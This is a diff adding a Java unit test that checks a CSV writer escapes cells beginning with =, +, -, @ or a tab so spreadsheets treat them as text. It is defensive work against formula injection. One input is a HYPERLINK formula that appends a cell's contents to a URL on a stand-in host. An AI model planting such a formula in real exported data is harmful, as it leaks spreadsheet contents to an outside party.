@@ -71,4 +71,35 @@ class CsvTest {
                 .isInstanceOf(NumberFormatException.class)
                 .hasMessageContaining("decimal=comma");
     }
+
+    @Test
+    void aTextCellThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextNumbersAndJsonAsThey() throws Exception {
+        List<RowWriter.Column> columns = List.of(
+                new RowWriter.Column("name", RowWriter.Kind.TEXT),
+                new RowWriter.Column("value", RowWriter.Kind.NUMBER));
+        java.io.ByteArrayOutputStream csv = new java.io.ByteArrayOutputStream();
+        try (RowWriter w = RowWriter.open(TableFormat.parse("csv", "semicolon", "comma", null), columns, csv)) {
+            w.row(new String[] {"=HYPERLINK(\"http://x.example/?\"&A1;\"Öppna\")", "-1.5"});
+            w.row(new String[] {"+46 8 123", "2"});
+            w.row(new String[] {"-ej angivet", null});
+            w.row(new String[] {"@SUM(A1)", "0"});
+            w.row(new String[] {"\tTab", "1"});
+            w.row(new String[] {"Hemtjänst Norr", "84.5"});
+        }
+        assertThat(read(csv.toString(java.nio.charset.StandardCharsets.UTF_8), ';'))
+                .containsExactly(
+                        List.of("name", "value"),
+                        List.of("'=HYPERLINK(\"http://x.example/?\"&A1;\"Öppna\")", "-1,5"),
+                        List.of("'+46 8 123", "2"),
+                        List.of("'-ej angivet", ""),
+                        List.of("'@SUM(A1)", "0"),
+                        List.of("'\tTab", "1"),
+                        List.of("Hemtjänst Norr", "84,5"));
+        java.io.ByteArrayOutputStream json = new java.io.ByteArrayOutputStream();
+        try (RowWriter w = RowWriter.open(TableFormat.parse("json", null, null, null), columns, json)) {
+            w.row(new String[] {"=1+1", "-1.5"});
+        }
+        assertThat(json.toString(java.nio.charset.StandardCharsets.UTF_8))
+                .isEqualTo("[{\"name\":\"=1+1\",\"value\":-1.5}]");
+    }
 }
